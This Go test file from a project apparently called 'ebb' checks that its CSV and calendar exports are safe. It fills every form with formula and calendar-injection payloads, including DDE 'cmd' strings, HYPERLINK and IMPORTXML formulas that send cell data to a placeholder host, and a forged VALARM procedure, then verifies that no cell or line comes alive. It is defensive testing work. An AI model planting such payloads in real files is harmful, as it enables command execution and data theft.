package hostile

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"ebb/internal/program"
	"ebb/internal/walk"
	"ebb/vault/vaulttest"
)

// formulas are what a spreadsheet would run, and what a calendar would obey.
var formulas = []string{
	`=kanari()`, `=HYPERLINK("https://kanari.example/"&A1,"open")`, `=cmd|' /C kanari'!A0`, `+kanari()`, `+cmd|' /C kanari'!A0`, `-kanari()`, `-2+3+cmd|' /C kanari'!A0`,
	`@SUM(1+1)*cmd|' /C kanari'!A0`, `=IMPORTXML(CONCAT("https://kanari.example/",A1),"//a")`, `=1+1+kanari`, "\t=kanari()", "\r=kanari()", "\n=kanari()", "a\r\n=kanari()",
	`"=kanari()`, `","=kanari()","`, "\"\r\n=kanari(),\"", `'=kanari()`, `＝kanari()`, `＋kanari`, `－kanari`, `＠kanari`, `a;=kanari()`, "\ufeff=kanari()", "\u200b=kanari()", "kanari=1\u2028=2",
	"a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:kanari\r\nEND:VALARM\r\nBEGIN:VEVENT", "2026-11-25\r\nATTACH:kanari", `a;VALUE=URI:kanari:b`, `a\nATTACH:kanari`,
}

// hostileWords are those, what makes pages come alive, and what this package
// sends itself.
func hostileWords(t *testing.T) []string {
	t.Helper()
	raw, err := os.ReadFile("../gallery/testdata/payloads.txt")
	if err != nil {
		t.Fatal(err)
	}
	return append(append(slices.Clone(formulas), strings.Split(strings.TrimSpace(string(raw)), "\n")...), inert)
}

// Check 33: what people have made pages, spreadsheets and calendars come alive
// with stands in every field of every form and in the names of a chat. `ebb
// export` writes it as a table in which no cell is a formula and a calendar in
// which nothing of it stands.
func TestNothingThatIsTakenOutComesAlive(t *testing.T) {
	a := &attack{served: serve(t)}
	all := hostileWords(t)
	for _, w := range all {
		a.send("/note", "text", w)
	}
	n := a.everyField(all)
	chat := first
	for _, w := range all[:40] {
		chat += line(1, strings.NewReplacer(": ", "", "\r", "", "\n", "").Replace(w), "a")
	}
	if p := a.upload(strings.NewReader(chat)); p.Path != "/patterns/messages/who" {
		t.Errorf("the chat leads to %s: %s", p.Path, about(p))
	}
	a.send("/patterns/messages/who", "then", "count", "me", "0")
	if p := a.send("/keep-this", "pass", vaulttest.Passphrase, "again", vaulttest.Passphrase); p.Path != "/recovery" {
		t.Fatalf("choosing a passphrase leads to %s: %s", p.Path, about(p))
	}
	cells := a.table(a.export("csv"), all)
	events := a.calendar(a.export("ics"))
	fmt.Printf("check 33: %d hostile words in %d fields: %d cells, no formula; %d days and times in a calendar, none of them its words\n", len(all), len(all)+n, cells, events)
	if n < 50 {
		t.Errorf("only %d fields were filled", n)
	}
}

// everyField fills the forms of every page with one word after the other, and says
// how many fields there were.
func (a *attack) everyField(all []string) (n int) {
	done := map[string]bool{}
	for _, path := range a.pages() {
		if strings.ContainsAny(path, "%-") || ends(path) || strings.HasPrefix(path, "/leave") {
			continue
		}
		for _, f := range a.open(path).Forms {
			if done[f.Action] || f.Multipart || ends(f.Action) || strings.HasPrefix(f.Action, "/settings/") || strings.HasPrefix(f.Action, "/safety") || strings.HasPrefix(f.Action, "/out") {
				continue
			}
			done[f.Action] = true
			p, err := a.Submit(f, func(f walk.Field) string {
				switch f.Type {
				case "text", "", "textarea", "search":
					n++
					return all[n%len(all)]
				case "date":
					return "2026-10-25"
				case "number", "range":
					return "7"
				}
				return append(slices.DeleteFunc(f.Options, func(o string) bool { return o == "" }), f.Value)[0]
			})
			a.answer("POST "+f.Action, p, err)
		}
	}
	return n
}

func (a *attack) export(format string) []byte {
	a.t.Helper()
	cmd := exec.Command(program.Build(a.t), "export", "--data", a.data, "--format", format, "--history", "--with", "safety,nine")
	var out, said bytes.Buffer
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(vaulttest.Passphrase+"\n"), &out, &said
	cmd.Env = append(os.Environ(), "XDG_RUNTIME_DIR="+a.temp)
	if err := cmd.Run(); err != nil {
		a.t.Fatalf("%v %s", err, said.String())
	}
	return out.Bytes()
}

// table reads a CSV as a spreadsheet does, and says how many cells it has. What was
// noted is there as it was written, but for the mark that keeps it words.
func (a *attack) table(raw []byte, all []string) (n int) {
	a.t.Helper()
	lines, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		a.t.Fatal(err)
	}
	said := map[string]bool{}
	for _, line := range lines {
		for _, cell := range line {
			n++
			said[strings.TrimPrefix(cell, "'")] = true
			if why := formula(cell); why != "" {
				a.t.Errorf("%s: %q", why, cell)
			}
		}
	}
	for _, w := range all {
		w = strings.TrimSpace(strings.ReplaceAll(w, "\r\n", "\n"))
		if !said[w] && !said[strings.ReplaceAll(w, "\r", "\n")] && !said[strings.TrimPrefix(w, "'")] {
			a.t.Errorf("it is not in the table as it was written: %q", w)
		}
	}
	return n
}

// formula says why a spreadsheet would take a cell for one.
func formula(cell string) string {
	if cell == "" || !strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", []rune(cell)[0]) {
		return ""
	}
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return "" // a number with its sign
	}
	return "a formula"
}

// known are the properties that a calendar of ours has, with what they may say.
var known = regexp.MustCompile(`^(BEGIN:VCALENDAR|END:VCALENDAR|BEGIN:VEVENT|END:VEVENT|VERSION:2\.0|PRODID:[ -~]+|METHOD:PUBLISH|UID:[0-9a-f]{32}-\d+@export|DTSTAMP:\d{8}T\d{6}Z|DT(START|END):\d{8}T\d{6}Z|DT(START|END);VALUE=DATE:\d{8}|SUMMARY:[^;=<>@|]+|CLASS:PRIVATE)$`)

// calendar reads one line by line, and says how many events it has.
func (a *attack) calendar(raw []byte) (n int) {
	a.t.Helper()
	if bytes.Contains(raw, []byte("kanari")) {
		a.t.Error("the calendar holds words")
	}
	text := strings.ReplaceAll(string(raw), "\r\n ", "")
	for _, line := range strings.Split(strings.TrimSuffix(text, "\r\n"), "\r\n") {
		if !known.MatchString(line) {
			a.t.Errorf("in the calendar stands %q", line)
		}
		if line == "BEGIN:VEVENT" {
			n++
		}
	}
	if n == 0 {
		a.t.Error("the calendar is empty")
	}
	return n
}
